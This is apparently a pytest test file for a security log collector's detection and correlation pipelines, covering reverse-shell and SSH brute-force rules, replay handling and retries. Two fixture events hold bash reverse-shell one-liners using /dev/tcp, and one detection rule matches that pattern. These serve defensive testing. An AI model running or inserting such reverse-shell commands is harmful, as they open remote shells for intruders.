"""The events and correlation stages with in-memory parts: order of steps, retries, replays."""

from __future__ import annotations

import asyncio
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import Any

import orjson
import pytest

from collector.alerts import event_time
from collector.dead_letter import DeadLetter
from collector.detection import DetectionEngine, RuleMatch
from collector.detection.correlation import CorrelationTracker, compile_correlations, to_input
from collector.pipeline import (
    CorrelationPipeline,
    EventPipeline,
    Message,
    encode_correlation_message,
)
from collector.sinks.memory import MemorySink
from tests.support.events import encoded, process_exec, ssh_failure

RULES = """
title: Reverse shell
id: 11111111-2222-4333-8444-555555555555
level: critical
tags: [attack.execution, attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  selection: {CommandLine|contains: '/dev/tcp/'}
  condition: selection
---
title: Failed ssh
id: 22222222-2222-4333-8444-555555555555
name: failed_ssh
level: low
logsource: {product: linux, service: sshd}
detection:
  keywords: ['Failed password']
  condition: keywords
---
title: Brute force
id: 33333333-2222-4333-8444-555555555555
level: high
correlation:
  {type: event_count, rules: [failed_ssh], group-by: [source.ip], timespan: 60s, condition: {gte: 3}}
"""


@pytest.fixture
def engine(tmp_path: Path) -> DetectionEngine:
    (tmp_path / "rules.yml").write_text(RULES)
    return DetectionEngine.from_paths([tmp_path], pipeline=Path("rules/pipelines/linux-ecs.yml"))


class Recorder:
    def __init__(self) -> None:
        self.letters: list[DeadLetter] = []
        self.matches: list[RuleMatch] = []
        self.alerts: list[Mapping[str, Any]] = []
        self.heartbeats: list[Mapping[str, Any]] = []

    async def publish(self, items: Sequence[Any]) -> None:
        target = self.letters if items and isinstance(items[0], DeadLetter) else self.matches
        target.extend(items)

    def incident_id_for(self, alert: Mapping[str, Any]) -> str | None:
        return f"inc-{alert['rule']['id'][:8]}"

    async def on_alerts(self, alerts: Sequence[Mapping[str, Any]]) -> None:
        self.alerts.extend(alerts)

    async def on_heartbeats(self, events: Sequence[Mapping[str, Any]]) -> None:
        self.heartbeats.extend(events)


def messages(*values: bytes) -> list[Message]:
    return [Message("events", 0, offset, b"k", value) for offset, value in enumerate(values)]


def stage(engine: DetectionEngine, sink: MemorySink, recorder: Recorder) -> EventPipeline:
    return EventPipeline(
        detector=lambda: engine,
        sink=sink,
        dead_letters=recorder,
        correlations=recorder,
        alert_observer=recorder,
        heartbeat_observer=recorder,
    )


async def test_a_batch_is_indexed_detected_and_its_bad_messages_dead_lettered(
    engine: DetectionEngine,
) -> None:
    sink, recorder = MemorySink(), Recorder()
    shell = process_exec("/bin/bash", "bash -c 'sh -i >& /dev/tcp/198.51.100.9/4444 0>&1'")
    batch = messages(encoded(shell), encoded(process_exec("/usr/bin/ls", "ls")), b"[1, 2", b"{}")
    await stage(engine, sink, recorder).process(batch)

    assert set(sink.family("events")) == {shell["event"]["id"], _id(batch[1])}
    (alert,) = sink.family("alerts").values()
    assert alert["rule"]["name"] == "Reverse shell"
    assert alert["event"]["severity"] == 99
    assert alert["threat"]["tactic"]["name"] == ["Execution"]
    assert recorder.alerts == [alert]
    assert alert["canhgac"]["alert"]["incident_id"] == "inc-11111111"  # named before it was indexed
    assert [(letter.offset, letter.reason.split(":")[0]) for letter in recorder.letters] == [
        (2, "not JSON"),
        (3, "event.dataset is None; expected one of"),
    ]


async def test_a_replayed_batch_changes_nothing(engine: DetectionEngine) -> None:
    sink, recorder = MemorySink(), Recorder()
    batch = messages(encoded(process_exec("/bin/sh", "sh -i >& /dev/tcp/1.2.3.4/1 0>&1")))
    pipeline = stage(engine, sink, recorder)
    await pipeline.process(batch)
    await pipeline.process(batch)
    assert len(sink.family("alerts")) == 1
    assert pipeline.counters.alerts_created == 1
    assert pipeline.counters.alerts_replayed == 1


async def test_an_unavailable_store_is_retried_until_it_returns(engine: DetectionEngine) -> None:
    sink, recorder = MemorySink(), Recorder()
    sink.available = False
    pipeline = stage(engine, sink, recorder)
    task = asyncio.create_task(pipeline.process(messages(encoded(process_exec("/bin/ls", "ls")))))
    await asyncio.sleep(1.2)
    assert not task.done()
    assert pipeline.counters.write_retries >= 2
    sink.available = True
    await asyncio.wait_for(task, 5)
    assert len(sink.family("events")) == 1


async def test_correlation_counts_a_republished_input_once(engine: DetectionEngine) -> None:
    correlations, errors = compile_correlations(engine.correlation_rules)
    assert errors == []
    tracker = CorrelationTracker(correlations)
    sink = MemorySink()
    pipeline = CorrelationPipeline(tracker=lambda: tracker, sink=sink, alert_observer=None)
    (correlation,) = correlations.correlations
    failures = [ssh_failure("root", "192.0.2.1") for _ in range(3)]
    records = []
    for event in failures:
        record = to_input(correlation, "failed_ssh", event, event_time(event))
        assert record is not None
        records.append(encode_correlation_message(record, event))
    # The first two inputs arrive twice (a batch replayed after a crash): still below the threshold.
    await pipeline.process(messages(records[0], records[1], records[0], records[1]))
    assert sink.family("alerts") == {}
    await pipeline.process(messages(records[2]))
    (alert,) = sink.family("alerts").values()
    assert alert["canhgac"]["alert"]["correlation"]["group"] == {"source.ip": "192.0.2.1"}
    assert alert["organization"]["id"] == "so-tttt"
    assert pipeline.counters.correlation_duplicates == 2


def _id(message: Message) -> str:
    return str(orjson.loads(message.value)["event"]["id"])


NESTED = """
title: Failed ssh
id: 44444444-2222-4333-8444-555555555555
name: failed
logsource: {product: linux, service: sshd}
detection: {keywords: ['Failed password'], condition: keywords}
---
title: Accepted ssh
id: 55555555-2222-4333-8444-555555555555
name: accepted
logsource: {product: linux, service: sshd}
detection: {keywords: ['Accepted password'], condition: keywords}
---
title: Many failures
id: 66666666-2222-4333-8444-555555555555
name: many_failures
correlation: {type: event_count, rules: [failed], group-by: [source.ip], timespan: 60s, condition: {gte: 3}}
---
title: Login after many failures
id: 77777777-2222-4333-8444-555555555555
level: critical
correlation:
  type: temporal_ordered
  rules: [many_failures, accepted]
  group-by: [source.ip]
  timespan: 120s
"""


class Loopback:
    """Publishes nested inputs straight back into the stage, as the repartition topic would."""

    def __init__(self) -> None:
        self.pending: list[bytes] = []

    async def publish_inputs(self, records: Sequence[tuple[Any, Mapping[str, Any]]]) -> None:
        self.pending += [encode_correlation_message(record, context) for record, context in records]


async def test_a_correlation_of_correlations_fires_through_the_stage(tmp_path: Path) -> None:
    (tmp_path / "nested.yml").write_text(NESTED)
    engine = DetectionEngine.from_paths([tmp_path], pipeline=Path("rules/pipelines/linux-ecs.yml"))
    correlations, errors = compile_correlations(engine.correlation_rules)
    assert errors == []
    tracker = CorrelationTracker(correlations)
    sink, loopback = MemorySink(), Loopback()
    stage = CorrelationPipeline(tracker=lambda: tracker, sink=sink, alert_observer=None, nested=loopback)
    events = [ssh_failure("admin", "192.0.2.9") for _ in range(3)]
    success = ssh_failure("admin", "192.0.2.9")
    success["message"] = "sshd[9]: Accepted password for admin from 192.0.2.9 port 2 ssh2"
    inputs = []
    for event in [*events, success]:
        for match in engine.match(event):
            for correlation in correlations.feeding(match.rule.name or match.rule.id):
                record = to_input(correlation, match.rule.name or "", event, event_time(event))
                assert record is not None
                inputs.append(encode_correlation_message(record, event))
    await stage.process(messages(*inputs[:3]))  # three failures: the inner correlation fires...
    assert len(loopback.pending) == 1
    assert sink.family("alerts") == {}  # ...but only feeds the outer one (no `generate: true`)
    await stage.process(messages(*loopback.pending, inputs[3]))
    names = {alert["rule"]["name"] for alert in sink.family("alerts").values()}
    assert names == {"Login after many failures"}
